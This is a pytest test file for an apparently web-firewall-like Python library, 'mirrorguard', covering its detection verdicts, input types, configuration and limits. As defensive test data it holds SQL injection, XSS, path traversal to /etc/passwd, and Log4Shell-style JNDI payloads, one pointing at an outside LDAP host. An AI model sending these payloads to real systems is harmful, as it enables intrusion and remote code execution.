"""The Python API: behaviour, types, configuration and limits."""

from __future__ import annotations

import json
import sysconfig
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

import mirrorguard
from mirrorguard import ConfigError, Engine, HttpError

SQLI = "/?id=1%27%20or%201=1--"
UA = "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0"


def test_installed_not_source_tree() -> None:
    site = Path(sysconfig.get_paths()["purelib"]).resolve()
    assert Path(mirrorguard.__file__).resolve().is_relative_to(site)
    assert mirrorguard._native.__file__.endswith(".abi3.so")


def test_readme_one_liner() -> None:
    assert mirrorguard.analyze(uri=SQLI).is_attack is True


def test_verdict_attributes() -> None:
    v = Engine().analyze(uri=SQLI, headers=[("User-Agent", UA)])
    assert v.is_attack and v.score == 10
    (f,) = v.findings
    assert (f.attack_class, f.rule, f.score, f.evidence) == ("sqli", "sqli.tautology", 10, "1' or 1=1--")
    loc = f.location
    assert (loc.part, loc.name, loc.key, loc.decoders) == ("query", "id", False, ["percent"])
    assert not v.limits.any()
    assert not v.limits.body_truncated
    assert isinstance(v.findings, list) and v.findings is not v.findings


def test_to_dict_is_the_json_shape() -> None:
    v = mirrorguard.analyze(uri=SQLI)
    d = v.to_dict()
    assert d == json.loads(v.to_json())
    assert list(d) == ["attack", "score", "findings", "limits"]
    assert d["findings"][0]["class"] == "sqli"
    assert d["findings"][0]["location"] == {"part": "query", "name": "id", "decoders": ["percent"]}
    assert v.to_json().startswith('{"attack":true,"score":10,"findings":[{"class":"sqli"')


def test_benign() -> None:
    v = mirrorguard.analyze("GET", "/search?q=running+shoes&page=2", {"User-Agent": UA})
    assert not v.is_attack and v.score == 0 and v.findings == []
    assert v.to_dict() == {
        "attack": False,
        "score": 0,
        "findings": [],
        "limits": {"body_truncated": False, "depth_limited": False, "inputs_truncated": False},
    }


def test_reprs() -> None:
    v = mirrorguard.analyze(uri=SQLI)
    assert repr(v) == 'Verdict(attack=True, score=10, findings=[sqli.tautology in query "id"])'
    assert repr(v.findings[0]) == (
        'Finding(sqli.tautology score=10 in query "id" via percent: "1\' or 1=1--")'
    )
    assert "part=\"query\"" in repr(v.findings[0].location)
    assert repr(v.limits).startswith("LimitsHit(body_truncated=False")
    assert repr(Engine()) == "Engine(sensitivity='default', threshold=5, classes=all, exclusions=0)"
    many = mirrorguard.analyze(
        uri="/?a=1%27%20or%201=1--&b=%3Cscript%3Ealert(1)%3C/script%3E&c=../../../../etc/passwd"
        "&d=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"
    )
    assert len(many.findings) > 3
    assert repr(many).endswith(f", +{len(many.findings) - 3} more])")


class Headers(Mapping[str, str]):
    """A read-only mapping, like the header objects of web frameworks."""

    def __init__(self, d: dict[str, str]) -> None:
        self._d = d

    def __getitem__(self, k: str) -> str:
        return self._d[k]

    def __iter__(self) -> Iterator[str]:
        return iter(self._d)

    def __len__(self) -> int:
        return len(self._d)


def test_header_forms_agree() -> None:
    jndi = "${jndi:ldap://198.51.100.7/a}"
    forms: list[object] = [
        [("User-Agent", jndi)],
        [["User-Agent", jndi]],
        (("User-Agent", jndi),),
        {"User-Agent": jndi},
        Headers({"User-Agent": jndi}),
        [(b"User-Agent", jndi.encode())],
        iter([("User-Agent", jndi)]),
    ]
    results = {mirrorguard.analyze(headers=h).to_json() for h in forms}  # type: ignore[arg-type]
    assert len(results) == 1
    (only,) = results
    assert '"class":"jndi"' in only and '"part":"header","name":"user-agent"' in only


def test_body_str_bytes_bytearray_agree() -> None:
    headers = {"Content-Type": "application/json"}
    text = '{"user": "admin\' OR 1=1--", "note": "caf\u00e9"}'
    got = {
        mirrorguard.analyze("POST", "/login", headers, body).to_json()
        for body in (text, text.encode(), bytearray(text.encode()))
    }
    assert len(got) == 1
    assert '"name":"/user"' in got.pop()


def test_bytes_everywhere_and_non_utf8() -> None:
    v = mirrorguard.analyze(
        method=b"POST",
        uri=b"/p?x=\xff\xfe%27%20or%201=1--",
        headers=[(b"X-Raw", b"\xc0\xae\xc0\xae/")],
        body=b"\x00\x01\xff",
        client=b"203.0.113.1",
        request_id=b"r-1",
        http_version=b"HTTP/1.1",
    )
    assert v.is_attack
    assert mirrorguard.analyze(client="203.0.113.1", request_id="abc").is_attack is False


def test_http_version_is_analyzed() -> None:
    v = mirrorguard.analyze(http_version="HTTP/7")
    assert [f.rule for f in v.findings] == ["protocol.version"]
    assert not mirrorguard.analyze(http_version="HTTP/2").findings


def test_analyze_raw() -> None:
    e = Engine()
    raw = b"POST /login HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    raw += b"Content-Length: 24\r\n\r\nuser=admin%27+OR+1%3D1--"
    v = e.analyze_raw(raw)
    assert v.is_attack and v.findings[0].location.part == "form"
    assert e.analyze_raw(bytearray(raw)).to_json() == v.to_json()
    with pytest.raises(HttpError, match="malformed HTTP request"):
        e.analyze_raw(b"GARBAGE")
    assert issubclass(HttpError, ValueError)
    with pytest.raises(TypeError, match="raw must be bytes, not str"):
        e.analyze_raw(raw.decode())  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"method": 1}, "method must be str or bytes, not int"),
        ({"uri": ["/"]}, "uri must be str or bytes, not list"),
        ({"body": 3.5}, "body must be str or bytes, not float"),
        ({"body": {"a": 1}}, "body must be str or bytes, not dict"),
        ({"headers": "Host: x"}, "headers must be a mapping or an iterable of"),
        ({"headers": b"Host: x"}, "headers must be a mapping or an iterable of"),
        ({"headers": 5}, "headers must be a mapping or an iterable of"),
        ({"headers": [("Host",)]}, "each header must be a (name, value) pair, not tuple"),
        ({"headers": ["Host"]}, "each header must be a (name, value) pair, not str"),
        ({"headers": [("Host", 1)]}, "a header value must be str or bytes, not int"),
        ({"headers": {1: "x"}}, "a header name must be str or bytes, not int"),
        ({"client": 1.5}, "client must be str or bytes, not float"),
        ({"request_id": object()}, "request_id must be str or bytes, not object"),
    ],
)
def test_wrong_types_raise_type_error(kwargs: dict[str, object], message: str) -> None:
    with pytest.raises(TypeError) as exc:
        Engine().analyze(**kwargs)  # type: ignore[arg-type]
    assert message in str(exc.value)
    with pytest.raises(TypeError):
        mirrorguard.analyze(**kwargs)  # type: ignore[arg-type]


def test_none_means_default() -> None:
    a = mirrorguard.analyze(None, None, None, None)  # type: ignore[arg-type]
    assert a.to_json() == mirrorguard.analyze("GET", "/", [], b"").to_json()


def test_surrogates_are_a_clear_error() -> None:
    with pytest.raises(UnicodeEncodeError):
        mirrorguard.analyze(uri="/\udcff")


def test_verdicts_are_not_constructible() -> None:
    for cls in (mirrorguard.Verdict, mirrorguard.Finding, mirrorguard.Location, mirrorguard.LimitsHit):
        with pytest.raises(TypeError):
            cls()


# --- configuration ----------------------------------------------------------


def test_config_forms() -> None:
    toml = 'sensitivity = "high"\nthreshold = 3\n[limits]\nmax_inputs = 100\n'
    js = '{"sensitivity": "high", "threshold": 3, "limits": {"max_inputs": 100}}'
    d = {"sensitivity": "high", "threshold": 3, "limits": {"max_inputs": 100}}
    configs = [Engine(c).config for c in (toml, js, d)]
    assert configs[0] == configs[1] == configs[2]
    assert configs[0]["limits"] == {
        "max_body_bytes": 1 << 20,
        "max_decode_depth": 6,
        "max_json_depth": 64,
        "max_inputs": 100,
        "value_cache": 4096,
    }
    assert Engine(None).config == Engine().config == Engine({}).config == Engine("").config


def test_classes_and_exclusions() -> None:
    only_xss = Engine({"classes": ["xss"]})
    assert not only_xss.analyze(uri=SQLI).is_attack
    assert only_xss.analyze(uri="/?q=%3Cscript%3Ealert(1)%3C/script%3E").is_attack
    excluded = Engine(
        '[[exclusions]]\npath_prefix = "/admin"\npart = "query"\nname = "id"\nrule = "sqli."\n'
    )
    assert not excluded.analyze(uri="/admin/users?id=1%27%20or%201=1--").is_attack
    assert excluded.analyze(uri="/shop?id=1%27%20or%201=1--").is_attack


@pytest.mark.parametrize(
    ("config", "field"),
    [
        ({"treshold": 3}, "treshold"),
        ({"threshold": 0}, "threshold"),
        ({"limits": {"max_inputs": "many"}}, "max_inputs"),
        ({"limits": {"max_decode_depth": 99}}, "limits.max_decode_depth"),
        ({"exclusions": [{}]}, "exclusions[0]"),
        ("threshold = 5\n[limits]\nmax_inputs = \"many\"\n", "limits.max_inputs"),
        ("[limits]\nmax_body = 3\n", "max_body"),
        ('{"sensitivity": "extreme"}', "sensitivity"),
    ],
)
def test_bad_config_raises_config_error_naming_the_field(config: object, field: str | None) -> None:
    with pytest.raises(ConfigError) as exc:
        Engine(config)  # type: ignore[arg-type]
    assert exc.value.field == field
    assert "invalid configuration" in str(exc.value)
    if field is not None:
        assert f"`{field}`" in str(exc.value)
    assert isinstance(exc.value, ValueError)


def test_config_error_field_default() -> None:
    assert ConfigError.field is None
    assert ConfigError("x").field is None


def test_bad_config_types() -> None:
    with pytest.raises(TypeError, match="config must be a dict, TOML or JSON text, or None, not int"):
        Engine(42)  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        Engine({"classes": {"sqli"}})  # a set is not JSON
    with pytest.raises(ConfigError):
        Engine("this is = = not toml")


# --- limits -------------------------------------------------------------------


def test_huge_body_is_cut_at_the_limit() -> None:
    attack = b"&q=%3Cscript%3Ealert(1)%3C/script%3E"
    body = b"a=" + b"x" * (8 << 20) + attack  # 8 MiB of padding, then the attack
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    v = Engine().analyze("POST", "/", form, body)
    assert v.limits.body_truncated and v.limits.any()
    assert not v.is_attack  # past the 1 MiB analyzed: not seen, and said so
    assert v.to_dict()["limits"]["body_truncated"] is True
    small = Engine({"limits": {"max_body_bytes": 1024}})
    v = small.analyze("POST", "/", form, b"a=b" + attack)
    assert v.is_attack and not v.limits.body_truncated
    v = small.analyze("POST", "/", form, b"a=" + b"x" * 2000 + attack)
    assert v.limits.body_truncated and not v.is_attack


def test_input_and_depth_limits() -> None:
    engine = Engine({"limits": {"max_inputs": 10, "max_json_depth": 4}})
    headers = [(f"X-H{i}", "v") for i in range(50)]
    assert engine.analyze(headers=headers).limits.inputs_truncated
    deep = "[" * 50 + '"x"' + "]" * 50
    v = engine.analyze("POST", "/", {"Content-Type": "application/json"}, deep)
    assert v.limits.depth_limited


def test_version() -> None:
    assert mirrorguard.__version__ == mirrorguard._native.__version__
    assert mirrorguard.__version__.count(".") == 2
